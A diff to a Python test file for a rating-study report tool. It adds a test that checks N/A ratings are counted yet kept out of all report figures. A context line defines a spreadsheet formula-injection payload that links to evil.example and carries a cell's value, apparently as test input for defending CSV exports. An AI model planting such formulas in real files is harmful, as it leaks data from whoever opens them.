@@ -140,6 +140,45 @@ def test_the_html_report_groups_reasons_by_score_band(study):
     assert "Scores ≤ 6: 1 rating (12.5 %)" in html
 
 
+NOT_APPLICABLE = [
+    # t1 and t2 never reached the appeal: two people say so on SIT and AD/AR items, a judge too
+    ("t1", "SIT.procedural_compliance", "ann", "human"),
+    ("t1", "SIT.procedural_compliance", "bo", "human"),
+    ("t2", "SIT.process_coherence", "bo", "human"),
+    ("t2", "AD_AR.process_coherence", "cy", "human"),
+    ("t1", "SIT.procedural_compliance", "judge-x", "llm"),
+]
+
+
+def test_the_report_leaves_na_out_of_every_figure_and_counts_it(study, tmp_path):
+    before = json.loads(report(study, "json").read_text())
+    path = tmp_path / "na.csv"
+    path.write_text(HEADER + "".join(f"{t},legalworld16,{i},{r},{s},NA,\n" for t, i, r, s in NOT_APPLICABLE))
+    call_command("import_ratings", str(path))
+    data = json.loads(report(study, "json").read_text())
+
+    def figures(entry: dict) -> dict:
+        return {key: value for key, value in entry.items() if key != "n_na"}
+
+    assert figures(data["overall"]) == figures(before["overall"])
+    assert [figures(item) for item in data["items"]] == [figures(item) for item in before["items"]]
+    assert data["notes"] == before["notes"]
+    assert data["overall"]["n_na"] == 4, "people's N/A answers; the judge's is not counted"
+    stages = next(group for group in data["groups"] if group["id"] == "stage_authenticity")
+    roles = next(group for group in data["groups"] if group["id"] == "role_consistency")
+    assert stages["n_na"] == stages["overall"]["n_na"] == 4 and roles["n_na"] == 0
+    assert row(data, "stage_authenticity", "SIT")["n_na"] == 3 and row(data, "stage_authenticity", "LC")["n_na"] == 0
+    n_na = {item["id"]: item["n_na"] for item in data["items"]}
+    assert n_na["SIT.procedural_compliance"] == 2 and n_na["AD_AR.process_coherence"] == 1
+    assert n_na["LC.procedural_compliance"] == 0
+
+    table = list(csv.DictReader(io.StringIO(report(study, "csv").read_text())))
+    assert next(line for line in table if line["id"] == "SIT")["n_na"] == "3"
+    assert next(line for line in table if line["level"] == "overall")["n_pairs"] == str(before["overall"]["n_pairs"])
+    html = report(study, "html").read_text()
+    assert "Scores ≥ 9: 4 ratings (50.0 %)" in html, "N/A answers are no ratings of a score band"
+
+
 JUDGE_FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
 
 
